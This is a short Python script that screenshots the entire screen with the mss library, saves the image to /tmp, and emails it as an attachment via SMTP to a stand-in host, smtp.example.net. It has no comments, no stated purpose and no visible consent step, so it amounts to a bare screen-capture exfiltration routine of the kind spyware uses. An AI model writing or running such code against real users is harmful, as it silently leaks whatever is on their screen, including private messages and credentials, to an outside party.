import smtplib
from email.message import EmailMessage
import mss

with mss.mss() as sct:
    path = sct.shot(output="/tmp/s.png")
msg = EmailMessage()
msg["Subject"] = "s"
msg.add_attachment(open("/tmp/s.png", "rb").read(), maintype="image", subtype="png")
with smtplib.SMTP("smtp.example.net", 587) as s:
    s.send_message(msg)
